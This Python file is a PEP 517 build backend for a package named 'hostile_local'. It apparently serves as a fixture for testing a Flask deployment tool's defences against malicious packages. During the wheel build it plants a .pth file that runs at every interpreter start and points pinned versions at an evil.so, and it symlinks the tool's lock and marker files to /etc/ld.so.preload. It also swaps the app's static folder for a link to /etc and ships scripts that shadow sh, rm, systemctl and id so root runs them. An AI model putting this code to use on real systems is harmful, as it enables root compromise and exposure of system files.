"""A package that does what it can, while it is installed, to have root write, read and publish for it."""

import os
import sys
import sysconfig
import zipfile

# The dynamic loader loads the libraries that this file names into every program that root starts (ld.so(8)).
PRELOAD = "/etc/ld.so.preload"
RELEASE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
VERSIONS = "x==1:/srv/flask/hostile/shared/evil.so"
NAME = "hostile_local-1.0"
# Programs that a shell of root's calls by name: the virtualenv's own come first in the PATH of the application.
PROGRAMS = ("ln", "stat", "mv", "rm", "readlink", "test", "sh", "env", "python3-config", "systemctl", "flock", "cat", "id")
SCRIPT = """#!/bin/sh
test "$(/usr/bin/id -u)" != 0 || /usr/bin/touch /usr/local/root-has-run-{name}
exec /usr/bin/{name} "$@"
"""


def link(target: str, path: str) -> None:
    if not os.path.lexists(path):
        os.symlink(target, path)


def attack() -> None:
    for mark in ("requirements.lock", ".flaskops-complete"):
        link(PRELOAD, f"{sys.prefix}/{mark}")
        link(PRELOAD, f"{sys.prefix}/.{mark}.partial")
    # Every start of the virtualenv's interpreter runs this, also where it is isolated.
    with open(f"{sysconfig.get_path('purelib')}/evil.pth", "w") as file:
        file.write(f"import sys; 'freeze' in open('/proc/self/cmdline').read() and print({VERSIONS!r})\n")
    if not os.path.islink(f"{RELEASE}/static"):
        os.rename(f"{RELEASE}/static", f"{RELEASE}/aside")
    link("/etc", f"{RELEASE}/static")


def build_wheel(wheel_directory: str, config_settings: object = None, metadata_directory: object = None) -> str:
    """Attack, and return the name of a wheel with nothing in it (PEP 517, PEP 427)."""
    attack()
    if os.path.exists(f"{RELEASE}/local/fails"):
        raise SystemExit("the package cannot be built after all")
    files = {
        "METADATA": "Metadata-Version: 2.1\nName: hostile-local\nVersion: 1.0\n",
        "WHEEL": "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    places = {f"{NAME}.dist-info/{name}": text for name, text in files.items()}
    places |= {f"{NAME}.data/scripts/{name}": SCRIPT.format(name=name) for name in PROGRAMS}
    with zipfile.ZipFile(f"{wheel_directory}/{NAME}-py3-none-any.whl", "w") as wheel:
        for path, text in places.items():
            wheel.writestr(path, text)
        wheel.writestr(f"{NAME}.dist-info/RECORD", "".join(f"{path},,\n" for path in [*places, f"{NAME}.dist-info/RECORD"]))
    return f"{NAME}-py3-none-any.whl"
